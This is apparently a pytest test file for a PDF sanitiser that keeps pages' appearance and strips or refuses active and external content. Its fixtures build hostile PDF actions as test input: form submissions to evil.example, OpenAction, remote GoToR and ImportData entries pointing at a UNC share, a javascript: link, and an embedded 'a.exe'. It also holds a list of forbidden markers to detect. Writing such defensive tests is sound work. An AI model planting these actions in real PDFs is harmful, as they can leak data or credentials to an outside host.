"""What of a PDF is handed on: its pages as they look, and nothing that acts or lies elsewhere."""

import io
from collections.abc import Callable
from pathlib import Path

import pytest
import typst
from PIL import Image
from pypdf import PageObject, PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from pb.media.service.reading import PaperFault, look_through
from tests.media.hostile import photo

ELSEWHERE = r"\\evil.example\share\x.pdf"
TEXT = """
#set document(title: "Баға", author: "Айгүл")
#set heading(numbering: "1.")
#outline()
= Абай көшесі
Сметаның #link("https://example.kz/smeta")[жолдары]; қараңыз @second.
#rect(fill: gradient.linear(red, blue), width: 100%)
#rect(fill: rgb("#ff000055"))[#box(stroke: 1pt)[$ sum_(i=1)^n x_i $]]
#image("photo.jpg", width: 40%) #image("drawing.png", width: 20%)
#pagebreak()
= Екінші бет <second>
"""
Change = Callable[[PdfWriter, PageObject], object]


def dictionary(**entries: PdfObject) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def text(value: str) -> TextStringObject:
    return TextStringObject(value)


def stream(writer: PdfWriter, data: bytes = b"", **entries: PdfObject) -> PdfObject:
    made = DecodedStreamObject()
    made.set_data(data)
    made.update(dictionary(**entries))
    return writer._add_object(made)


def paper_with(change: Change) -> bytes:
    """A page to which something is done."""
    writer, file = PdfWriter(), io.BytesIO()
    change(writer, writer.add_blank_page(200, 200))
    writer.write(file)
    return file.getvalue()


def submit() -> DictionaryObject:
    return dictionary(S=name("SubmitForm"), F=dictionary(FS=name("URL"), F=text("http://evil.example/")))


def form(**entries: PdfObject) -> Change:
    """A drawing of the page that names these."""

    def change(writer: PdfWriter, page: PageObject) -> None:
        drawing = stream(writer, Type=name("XObject"), Subtype=name("Form"), **entries)
        page[name("Resources")] = dictionary(XObject=dictionary(X=drawing))

    return change


def of_page(**entries: PdfObject) -> Change:
    return lambda _writer, page: page.update(dictionary(**entries))


def whole_catalogue(writer: PdfWriter, page: PageObject) -> None:
    """Among the resources of a drawing, where nobody looks for it."""
    writer.root_object[name("OpenAction")] = submit()
    foreign = dictionary(Catalogue=writer.root_object.indirect_reference, Font=dictionary())
    form(Resources=foreign)(writer, page)


def link_among_resources(_writer: PdfWriter, page: PageObject) -> None:
    page[name("Resources")] = dictionary(Foo=dictionary(S=name("URI"), URI=text("javascript:alert(1)")))


LEFT_BEHIND = [
    of_page(PresSteps=dictionary(Type=name("NavNode"), NA=submit())),
    of_page(Evil=dictionary(A=dictionary(S=name("GoToR"), F=text(ELSEWHERE)))),
    of_page(LastName=text("IIN 820101300000")),
    of_page(Thumb=dictionary(F=text(ELSEWHERE))),
    of_page(AA=dictionary(O=submit())),
    form(Metadata=text("evil"), PieceInfo=dictionary(Evil=dictionary(Private=text("evil")))),
    whole_catalogue,
    link_among_resources,
]
REFUSED = [
    (form(Ref=dictionary(F=dictionary(Type=name("Filespec"), F=text(ELSEWHERE)))), PaperFault.FILES),
    (form(Ref=dictionary(F=text(ELSEWHERE), Page=NumberObject(0))), PaperFault.FILES),
    (form(F=text(ELSEWHERE)), PaperFault.FILES),
    (form(F=dictionary(FS=name("URL"), F=text("http://evil.example/i.jpg"))), PaperFault.FILES),
    (form(FFilter=name("FlateDecode")), PaperFault.FILES),
    (form(OPI=dictionary(Version=NumberObject(2), F=text(ELSEWHERE))), PaperFault.FILES),
    (form(AF=ArrayObject([dictionary(Type=name("Filespec"), F=text("a.exe"))])), PaperFault.FILES),
    (lambda writer, page: of_page(Contents=stream(writer, F=text(ELSEWHERE)))(writer, page), PaperFault.FILES),
    (form(A=dictionary(S=name("Named"), N=name("Print"))), PaperFault.PROGRAM),
    (form(Other=ArrayObject([dictionary(S=name("Hide"), T=text("x"))])), PaperFault.PROGRAM),
    (form(AA=dictionary(O=submit())), PaperFault.PROGRAM),
    (form(Evil=dictionary(URI=text("http://evil.example/"))), PaperFault.PROGRAM),
    (form(Evil=dictionary(S=name("ImportData"), F=text(ELSEWHERE))), PaperFault.PROGRAM),
]


def looked_through(folder: Path, data: bytes) -> tuple[str, int, bytes]:
    path = folder / "sent.pdf"
    path.write_bytes(data)
    return look_through(path)


@pytest.mark.parametrize("change", LEFT_BEHIND)
def test_what_a_page_does_not_need_stays_behind(tmp_path: Path, change: Change) -> None:
    """Played: keys of a page were handed on unless they were named."""
    sent = paper_with(change)
    fault, pages, written = looked_through(tmp_path, sent)
    assert (fault, pages) == ("", 1)
    for unwanted in (b"evil", b"/SubmitForm", b"/GoToR", b"/URI", b"/OpenAction", b"/AA", b"IIN", b"javascript"):
        assert unwanted not in written, unwanted


@pytest.mark.parametrize(("change", "fault"), REFUSED)
def test_what_acts_or_lies_elsewhere_within_a_page_is_refused(
    tmp_path: Path, change: Change, fault: PaperFault
) -> None:
    assert looked_through(tmp_path, paper_with(change)) == (fault, 0, b"")


def written_with_typst(folder: Path) -> bytes:
    """As text processors do: fonts embedded, links, a list of contents, pictures, shades, tags for screen readers."""
    (folder / "photo.jpg").write_bytes(photo((300, 200)))
    Image.new("RGBA", (40, 40), (0, 90, 200, 90)).save(folder / "drawing.png")
    (folder / "main.typ").write_text(TEXT)
    return bytes(typst.compile(str(folder / "main.typ"), format="pdf"))


def test_a_paper_of_a_text_processor_looks_as_it_did(tmp_path: Path) -> None:
    sent = written_with_typst(tmp_path)
    fault, pages, written = looked_through(tmp_path, sent)
    assert (fault, pages) == ("", 2)
    before, after = (PdfReader(io.BytesIO(data)) for data in (sent, written))
    for was, now in zip(before.pages, after.pages, strict=True):
        assert now.extract_text() == was.extract_text()
        assert now.get_contents().get_data() == was.get_contents().get_data()  # type: ignore[union-attr]
        assert now.mediabox == was.mediabox
        assert set(now["/Resources"]) == set(was["/Resources"])
        assert [image.data for image in now.images] == [image.data for image in was.images]
    assert "Абай көшесі" in after.pages[0].extract_text()
    assert b"/FontFile" in written
    assert b"example.kz" not in written


def test_a_scan_passes(tmp_path: Path) -> None:
    scans, file = [Image.open(io.BytesIO(photo((300, 400), seed=seed))) for seed in (1, 2)], io.BytesIO()
    scans[0].save(file, "PDF", save_all=True, append_images=scans[1:], title="Scan")
    fault, pages, written = looked_through(tmp_path, file.getvalue())
    assert (fault, pages) == ("", 2)
    assert all(len(page.images) == 1 for page in PdfReader(io.BytesIO(written)).pages)


def test_signs_and_fonts_are_called_as_they_like(tmp_path: Path) -> None:
    """`/A` and `/F` are an action and a file elsewhere, and here the letters of a font, and its name."""

    def lettered(writer: PdfWriter, page: PageObject) -> None:
        signs = dictionary(A=stream(writer, b"0 0 m"), F=stream(writer, b"0 0 m"), AA=stream(writer, b"0 0 m"))
        differences = ArrayObject([NumberObject(65), name("A"), name("F"), name("AA")])
        font = dictionary(
            Type=name("Font"),
            Subtype=name("Type3"),
            CharProcs=signs,
            Encoding=dictionary(Type=name("Encoding"), Differences=differences),
        )
        group = dictionary(S=name("Transparency"), CS=name("DeviceRGB"))
        page[name("Resources")] = dictionary(Font=dictionary(F=font, A=font, AA=font, Ref=font))
        page[name("Group")] = group
        writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.kz"))

    fault, _pages, written = looked_through(tmp_path, paper_with(lettered))
    assert fault == ""
    (page,) = PdfReader(io.BytesIO(written)).pages
    assert set(page["/Resources"]["/Font"]) == {"/F", "/A", "/AA", "/Ref"}  # type: ignore[index]
    assert page["/Group"]["/S"] == "/Transparency"  # type: ignore[index]


def test_what_pages_inherit_stays_theirs(tmp_path: Path) -> None:
    def inherited(writer: PdfWriter, page: PageObject) -> None:
        above = page["/Parent"].get_object()
        above[name("Rotate")] = NumberObject(90)  # type: ignore[index]
        above[name("Resources")] = dictionary(Font=dictionary(F1=dictionary(Type=name("Font"))))  # type: ignore[index]
        above[name("MediaBox")] = page["/MediaBox"]  # type: ignore[index]
        for key in ("/MediaBox", "/Resources"):
            page.pop(key, None)
        assert writer

    fault, _pages, written = looked_through(tmp_path, paper_with(inherited))
    assert fault == ""
    (page,) = PdfReader(io.BytesIO(written)).pages
    assert page.rotation == 90
    assert page.mediabox.width == 200
    assert "/F1" in page["/Resources"]["/Font"]  # type: ignore[index]
